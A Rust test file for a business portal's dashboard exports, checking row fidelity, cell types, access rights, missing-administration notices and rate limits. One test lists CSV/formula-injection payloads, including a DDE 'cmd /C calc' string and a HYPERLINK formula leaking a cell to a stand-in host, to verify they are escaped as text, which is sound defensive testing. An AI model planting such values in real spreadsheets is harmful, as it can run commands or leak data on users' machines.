//! Exports of the dashboard: the same rows as the page, as texts, numbers and dates, and never formulas.

use std::{collections::BTreeSet, io::Cursor, time::Duration};

use backend::{
    accounts::sessions::Session,
    dashboard::{self, Export, PaymentsFilter, PaymentsTab},
};
use calamine::{Data, Reader, Xlsx};
use domain::{co_owner::CoOwner, payments::CreanceState, problem::Problem, siret::Siret};
use jiff::civil::Date;
use platform::{
    Error, execute,
    spreadsheet::{self, Format},
};
use serde_json::json;

use crate::{
    companies::{BRUMAIRE, session_at, with_simulator},
    database::TestEnv,
    simulator::Simulator,
};

const HEAD_OFFICE: &str = "00010101400017";

async fn session(env: &TestEnv, simulator: &Simulator, login: &str, co_owners: &[CoOwner]) -> Session {
    session_at(env, simulator, login, co_owners, BRUMAIRE).await
}

fn bytes(export: Export, format: Format) -> Vec<u8> {
    let pieces = spreadsheet::write(export.sheet, format).expect("a file");
    pieces.flat_map(|piece| piece.expect("a piece")).collect()
}

fn csv(export: Export) -> String {
    String::from_utf8(bytes(export, Format::Csv)).expect("UTF-8")
}

/// Cells of a tab of a workbook, its row of titles first.
fn tab(workbook: &[u8], name: &str) -> Vec<Vec<Data>> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(workbook.to_vec())).expect("a workbook");
    assert!(workbook.worksheet_formula(name).expect("the tab").is_empty(), "no formula");
    let range = workbook.worksheet_range(name).expect("the tab");
    range.rows().map(<[Data]>::to_vec).collect()
}

async fn export(env: &TestEnv, session: &Session, filter: &PaymentsFilter) -> Export {
    dashboard::export_payments(&env.portal, session, filter).await.expect("an export")
}

/// References that the page shows, with their administration.
async fn page(env: &TestEnv, session: &Session, filter: &PaymentsFilter) -> BTreeSet<(String, String)> {
    let dashboard = dashboard::overview(&env.portal, session, filter).await.expect("a dashboard");
    let shown = dashboard.payments.into_iter().filter_map(|share| {
        let rows = share.block.shown()?.value.clone();
        Some(
            rows.into_iter()
                .map(move |row| (share.co_owner.label().to_owned(), row.creance.reference.clone())),
        )
    });
    shown.flatten().collect()
}

/// References in a workbook, with their administration.
fn references(rows: &[Vec<Data>]) -> BTreeSet<(String, String)> {
    rows[1..].iter().map(|row| (row[0].to_string(), row[1].to_string())).collect()
}

/// A due date with others before and after it.
async fn a_day(env: &TestEnv, session: &Session) -> Date {
    let dashboard = dashboard::overview(&env.portal, session, &PaymentsFilter::default()).await;
    let payments = dashboard.expect("a dashboard").payments;
    let rows = payments.iter().filter_map(|share| Some(&share.block.shown()?.value)).flatten();
    let days: BTreeSet<Date> = rows.map(|row| row.creance.due).collect();
    *days.iter().nth(days.len() / 2).expect("a day")
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_has_the_rows_of_the_page_whatever_the_filter() {
    with_simulator(async |env, simulator| {
        let all = [CoOwner::Dgddi, CoOwner::Dgfip, CoOwner::Urssaf];
        let alix = session(&env, &simulator, "alix.demo", &all).await;
        let siret = Siret::parse(HEAD_OFFICE).ok();
        let everything = PaymentsFilter::default();
        let day = a_day(&env, &alix).await;
        let filters = [
            everything.clone(),
            PaymentsFilter { co_owner: Some(CoOwner::Dgddi), ..everything.clone() },
            PaymentsFilter { siret: siret.clone(), ..everything.clone() },
            PaymentsFilter { state: Some(CreanceState::EnRetard), ..everything.clone() },
            PaymentsFilter { from: Some(day), ..everything.clone() },
            PaymentsFilter { to: Some(day), ..everything.clone() },
            PaymentsFilter { siret, ..PaymentsTab::Historique.into() },
        ];
        let mut found = Vec::new();
        for filter in &filters {
            let title = match filter.tab {
                PaymentsTab::EnCours => "Paiements en cours",
                PaymentsTab::Historique => "Paiements passés",
            };
            let rows = tab(&bytes(export(&env, &alix, filter).await, Format::Xlsx), title);
            let exported = references(&rows);
            assert_eq!(exported.len(), rows.len() - 1, "no row twice");
            assert_eq!(exported, page(&env, &alix, filter).await, "{filter:?}");
            found.push(exported);
        }
        for part in &found[1..] {
            assert!(!part.is_empty() && *part != found[0], "each filter selects some: {part:?}");
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn amounts_are_numbers_days_are_dates_and_numbers_of_companies_are_texts() {
    with_simulator(async |env, simulator| {
        let alix = session(&env, &simulator, "alix.demo", &[CoOwner::Dgddi]).await;
        let file = export(&env, &alix, &PaymentsFilter::default()).await;
        assert_eq!(file.name, "paiements-en-cours-000101014-2026-06-01");
        let rows = tab(&bytes(file, Format::Xlsx), "Paiements en cours");
        assert_eq!(rows[0][1], Data::String("Référence".to_owned()));
        let late = rows.iter().find(|row| row[1] == "DEMO-DG-0003").expect("a créance");
        assert_eq!(late[3], Data::String("00010101400025".to_owned()));
        assert!(matches!(late[5], Data::DateTime(_)), "{:?}", late[5]);
        assert_eq!(late[6], Data::String("En retard".to_owned()));
        assert_eq!((late[7].clone(), late[8].clone()), (Data::Float(4182.6), Data::Float(4182.6)));
        let text = csv(export(&env, &alix, &PaymentsFilter::default()).await);
        assert!(text.starts_with("\u{feff}Administration;Référence;Objet;SIRET;"), "{text}");
        let line = text.split("\r\n").find(|line| line.contains("DEMO-DG-0003")).expect("its line");
        assert!(
            line.starts_with("Douane;DEMO-DG-0003;\"Droits antidumping, panneaux\";'00010101400025;"),
            "{line}"
        );
        assert!(line.contains(";En retard;4182,60;4182,60;01/06/2026"), "{line}");
        assert!(!text.replace("\r\n", "").contains(['\r', '\n']), "lines end with CR LF");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_of_a_co_owner_never_become_formulas() {
    const HOSTILE: [&str; 6] = [
        "=HYPERLINK(\"https://exemple.test/?\"&A1;\"voir\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "a;b \"c\"",
        "<t>_x000D_&",
    ];
    with_simulator(async |env, simulator| {
        let alix = session(&env, &simulator, "alix.demo", &[CoOwner::Dgddi]).await;
        export(&env, &alix, &PaymentsFilter::default()).await;
        let creance = |text: &str| {
            json!({
                "reference": text, "libelle": text, "siret": HEAD_OFFICE, "montant_centimes": 100,
                "reste_a_payer_centimes": 100, "echeance": "2026-12-01", "etat": "a_payer",
            })
        };
        let content = json!({ "creances": HOSTILE.map(creance) }).to_string();
        execute!(
            env.portal.db,
            sqlx::query(
                "UPDATE co_owner_figures SET content = $1, received_at = received_at + 1
                 WHERE kind = 'creances-en-cours'",
            )
            .bind(content)
        )
        .expect("stored");
        // The answers of the simulator would replace it.
        simulator.set_down(CoOwner::Dgddi, true).await;
        let rows = tab(
            &bytes(export(&env, &alix, &PaymentsFilter::default()).await, Format::Xlsx),
            "Paiements en cours",
        );
        let texts: Vec<String> = rows[1..].iter().map(|row| row[1].to_string()).collect();
        assert_eq!(texts[..5], HOSTILE[..5]);
        assert!(texts[5].starts_with("<t>"), "{texts:?}");
        let text = csv(export(&env, &alix, &PaymentsFilter::default()).await);
        let lines: Vec<&str> = text.split("\r\n").skip(1).take(6).collect();
        let beginnings = [
            "Douane;\"'=HYPERLINK(\"\"https://exemple.test/?\"\"&A1;\"\"voir\"\")\";",
            "Douane;'+1+cmd|' /C calc'!A0;",
            "Douane;'-2+3;",
            "Douane;'@SUM(1+1);",
            "Douane;\"a;b \"\"c\"\"\";",
            "Douane;<t>_x000D_&;",
        ];
        for (line, beginning) in lines.iter().zip(beginnings) {
            assert!(line.starts_with(beginning), "{line}");
        }
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_says_which_administrations_are_missing_or_late() {
    with_simulator(async |env, simulator| {
        let linked = [CoOwner::Dgddi, CoOwner::Dgfip];
        let alix = session(&env, &simulator, "alix.demo", &linked).await;
        simulator.set_down(CoOwner::Dgfip, true).await;
        export(&env, &alix, &PaymentsFilter::default()).await;
        simulator.set_down(CoOwner::Dgddi, true).await;
        env.advance(std::time::Duration::from_secs(3600));
        let remarks = tab(&bytes(export(&env, &alix, &PaymentsFilter::default()).await, Format::Xlsx), "À lire");
        let remarks: Vec<String> = remarks.iter().map(|row| row[0].to_string()).collect();
        let text = csv(export(&env, &alix, &PaymentsFilter::default()).await);
        for (remark, beginning) in remarks.iter().zip([
            "Brumaire Négoce (fictif) (SIREN\u{a0}000\u{a0}101\u{a0}014)\u{a0}: paiements en cours. Exporté du portail le 1er\u{a0}juin 2026 à 11\u{a0}h\u{a0}00",
            "Douane\u{a0}: derniers chiffres connus, du 1er\u{a0}juin 2026 à 10\u{a0}h\u{a0}00",
            "Administration non comprise\u{a0}: DGFiP. impots.gouv.fr ne répond pas",
            "Administration non comprise\u{a0}: Urssaf. Votre compte urssaf.fr n’est pas rattaché",
        ]) {
            assert!(remark.starts_with(beginning), "{remark}");
            assert!(text.contains(beginning), "{text}");
        }
        assert_eq!(remarks.len(), 4, "{remarks:?}");
        let only_taxes = PaymentsFilter { co_owner: Some(CoOwner::Dgfip), ..PaymentsFilter::default() };
        let refused = dashboard::export_payments(&env.portal, &alix, &only_taxes).await;
        assert!(matches!(refused, Err(Error::CoOwnerDown { .. })));
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_requires_the_rights_of_the_page() {
    with_simulator(async |env, simulator| {
        let chloe = session(&env, &simulator, "chloe.demo", &[CoOwner::Dgddi]).await;
        let refused = dashboard::export_payments(&env.portal, &chloe, &PaymentsFilter::default()).await;
        assert!(matches!(refused, Err(Error::Refused(denial)) if !denial.hidden));
        let file = dashboard::export_declarations(&env.portal, &chloe).await.expect("an export");
        let workbook = bytes(file, Format::Xlsx);
        let rows = tab(&workbook, "Déclarations en cours");
        assert_eq!(rows.len(), 2, "the téléservice that she may open");
        assert_eq!(rows[1][0], Data::String("Dédouanement".to_owned()));
        assert_eq!(rows[1][2], Data::String("Consulter".to_owned()));
        assert!(matches!(rows[1][3], Data::Float(_)), "{:?}", rows[1]);
        assert!(
            tab(&workbook, "À lire")
                .iter()
                .any(|row| row[0].to_string().contains("non comprise\u{a0}: TICPE."))
        );

        let mut basile = session(&env, &simulator, "basile.demo", &[CoOwner::Dgddi]).await;
        export(&env, &basile, &PaymentsFilter::default()).await;
        simulator.withdraw("basile.demo", "TELEPAIEMENT-SEPA", "telepayer", HEAD_OFFICE).await;
        let refused = dashboard::export_payments(&env.portal, &basile, &PaymentsFilter::default()).await;
        assert!(matches!(refused, Err(Error::Refused(_))), "withdrawn since the page");
        basile.siren = domain::siren::Siren::parse("000202028").ok();
        let refused = dashboard::export_payments(&env.portal, &basile, &PaymentsFilter::default()).await;
        assert!(matches!(refused, Err(Error::NotFound)), "another company");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn exports_are_limited_per_account() {
    with_simulator(async |env, simulator| {
        let session = session(&env, &simulator, "alix.demo", &[CoOwner::Dgddi]).await;
        let portal = &env.portal;
        for _ in 0..15 {
            export(&env, &session, &PaymentsFilter::default()).await;
            dashboard::export_declarations(portal, &session).await.expect("an export");
        }
        let refused = |outcome: Result<Export, Error>| match outcome {
            Err(Error::Invalid(problems)) => matches!(problems[0].problem, Problem::TooManyRequests { .. }),
            _ => false,
        };
        let payments = dashboard::export_payments(portal, &session, &PaymentsFilter::default()).await;
        assert!(refused(payments) && refused(dashboard::export_declarations(portal, &session).await));
        env.advance(Duration::from_secs(3600));
        export(&env, &session, &PaymentsFilter::default()).await;
    })
    .await;
}
